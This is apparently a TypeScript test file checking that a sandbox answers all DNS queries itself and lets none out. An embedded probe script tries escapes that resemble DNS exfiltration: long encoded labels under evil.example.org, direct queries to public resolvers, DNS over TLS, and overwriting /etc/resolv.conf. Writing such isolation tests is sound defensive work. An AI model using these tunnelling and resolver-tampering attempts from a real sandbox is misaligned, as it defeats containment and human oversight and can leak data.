/** DNS is answered in the sandbox, whoever is asked: no question gets out. T57, T58, T59, T60. */
import assert from 'node:assert/strict'
import { auditLines } from '../world/clrk.ts'
import { testEverywhere } from '../world/runtimes.ts'
import { assertOutcomes, runProbes, USERS } from './probe.ts'

testEverywhere('no name that a sandbox asks for leaves it', async (world, t) => {
  for (const user of USERS) {
    await t.test(`as user ${user}`, async () => {
      const outcomes = await runProbes(world, SCRIPT, { allow: ['echo.example.com'], user })
      const named = (pattern: RegExp) => Object.keys(outcomes).filter(name => pattern.test(name))
      assertOutcomes(outcomes, /^code 0, 1 answers$/, named(/^allowed/))
      assertOutcomes(outcomes, /^code 0, 1 answers$/, named(/^needle/)) // the explaining address
      assertOutcomes(outcomes, /^code 0, 0 answers$/, named(/^record type/))
      assertOutcomes(outcomes, /^code 3, 0 answers$/, named(/^not public/))
      assertOutcomes(outcomes, /^(reset|refused)$/, named(/^DNS over TLS/))
      assert.match(outcomes['editing resolv.conf'] ?? '', /^(EROFS|EACCES|EPERM|code 0, 1 answers)$/)
      assert.deepEqual(await world.queries(), [])
      assert.deepEqual(await world.arrivals(), [])
    })
  }
  assert.ok(auditLines(world).some(({ protocol, name }) => protocol === 'dns' && name === 'needle1.evil.example.org'))
})

testEverywhere('an allowed name is looked up when it is dialled, not when it is asked for', async world => {
  const asked = await runProbes(world, 'attempt("asked", dns, "8.8.8.8", "echo.example.com")', {
    allow: ['echo.example.com'],
  })
  assert.equal(asked.asked, 'code 0, 1 answers')
  assert.deepEqual(await world.queries(), [])
  await runProbes(world, 'attempt("dialled", https, "echo.example.com")', { allow: ['echo.example.com'] })
  assert.ok((await world.queries()).some(({ name }) => name === 'echo.example.com'))
})

const SCRIPT = `
for server in ("8.8.8.8", "2001:4860:4860::8888", "198.35.26.1", "1.1.1.1"):
    for over in ("udp", "tcp"):
        attempt(f"allowed name, asked of {server} by {over}", dns, server, "echo.example.com", 1, over)
        attempt(f"allowed name, IPv6, asked of {server} by {over}", dns, server, "echo.example.com", 28, over)
        attempt(f"needle asked of {server} by {over}", dns, server, "needle1.evil.example.org", 1, over)
    attempt(f"DNS over TLS to {server}", tcp, server, 853)
attempt("needle of an allowed zone", dns, "8.8.8.8", "needle2.echo.example.com")
for number in range(50):
    attempt(f"needle {number}", dns, "8.8.8.8", f"{'ab' * 25}.{number}.evil.example.org")
for kind, number in (("TXT", 16), ("MX", 15), ("HTTPS", 65), ("NULL", 10), ("ANY", 255)):
    attempt(f"record type {kind}", dns, "8.8.8.8", "echo.example.com", number)
for name in ("localhost-needle", "needle.local", "needle.internal", "254.169.254.169.in-addr.arpa"):
    attempt(f"not public {name}", dns, "8.8.8.8", name)

def edited():
    with open("/etc/resolv.conf", "w") as file:
        file.write("nameserver 8.8.4.4\\n")
    return dns("8.8.4.4", "needle3.evil.example.org")

attempt("editing resolv.conf", edited)
`
